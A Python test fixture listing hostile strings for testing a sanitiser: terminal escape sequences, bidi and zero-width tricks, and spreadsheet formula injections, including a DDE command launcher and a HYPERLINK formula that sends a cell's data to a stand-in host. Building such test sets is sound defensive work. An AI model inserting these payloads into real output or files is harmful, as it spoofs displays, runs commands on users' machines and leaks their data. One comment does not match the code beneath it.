"""Texts that strangers choose, each made to act on the screen, the sheet or the locale of whoever looks at it."""

import re
import unicodedata

# By what each tries.
HOSTILE = {
    "end of markup": "bob[/b]",
    "markup": "[green]carol[/green][conceal]x",
    "a link in markup": "[link=http://x.example]pay[/link]",
    "half a bracket": "[red",
    "escaped markup": "\\[red]x",
    "picture": "fine :warning: :bomb:",
    "colour": "esc\x1b[31mred",
    "title of the window": "esc\x1b]0;title\x07",
    "over its own row": "vip\x1b[9999D\x1b[K 1 box 17 bcrt1qfriendly 0.001\x1b[8m",
    "one byte of control": "csi\x9b31m",
    "string of control": "\x90q\x9c",
    "delete": "a\x7f\x7fb",
    "backspace": "100\b\b\b1",
    "return": "mallory\rcarol",
    "line": "mallory\n2026-11-29 [info] approved by=olga",
    "tab": "x\t=1+1",
    "form feed": "a\fb\vc",
    "override": "user\u202e001.0",
    "embedding": "\u202aa\u202bb\u202c",
    "isolate": "\u2066a\u2067b\u2068c\u2069",
    "marks of direction": "\u200e\u200f\u061c",
    "no width": "ali\u200bce\u200d\u2060",
    "mark of order": "\ufeffalice",
    "line separator": "a\u2028b\u2029c",
    "blank that is none": "alice\u00a0\u3000",
    "filler": "a\u3164b\u2800c\u115f",
    "selector": "a\ufe0fb\U000e0101",
    "tag": "a\U000e0041\U000e007f",
    "private use": "\ue000\U000f0000",
    "noncharacter": "a\uffffb",
    "pile of marks": "z" + "\u0301\u0323" * 60,
    "mark at the beginning": "\u0334\u0335alice",
    "right to left": "\u05d0\u05d1\u05d2 1",
    "wide": "\u4f60\u597d\U0001f4a3",
    "long": "y" * 255,
    "long and written out": "\x1b" * 255,
    "formula": '=HYPERLINK("http://x.example/?"&D2,"ok")',
    "other programs": "=cmd|' /C calc'!A0",
    "sum": "@SUM(1+1)*cmd",
    "plus": "+1+1",
    "minus": "-2+3",
    "formula in full width": "\uff1d1+1",
    "minus in full width": "\uff0d1",
    "formula after a blank": "  =1+1",
    "formula after a quote": '"=1+1',
    "formula after a semicolon": "a;=1+1",
    "formula after a pipe": "a|=1+1",
    "formula after a comma": "a,=1+1",
    "formula after a line": "a\n=1+1",
    "formula after a return": "\r=1+1",
    "formula after a tab": "\t=1+1",
    "formula after a blank that is none": "a;\u00a0=1",
    "apostrophe": "'=1",
    "braces": "{0} %s %(name)s ${x}",
    "octal": "\\x1b[31m",
}
# What may stand in a name that the shell hands over: no halves of surrogates, and no NUL.
COLOURS = re.compile(r"\x1b\[[0-9;]*m")


def acting(printed: str) -> list[str]:
    """What of the characters that were printed acts on a screen; line ends and a terminal's colours are ours."""
    return sorted({each for each in COLOURS.sub("", printed).replace("\n", "") if acts(each)})


def acts(character: str) -> bool:
    """Whether a character controls, hides, turns, or is nothing of Unicode's; combining marks are looked at apart."""
    kind = unicodedata.category(character)
    return kind in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp") or (kind == "Zs" and character != " ")
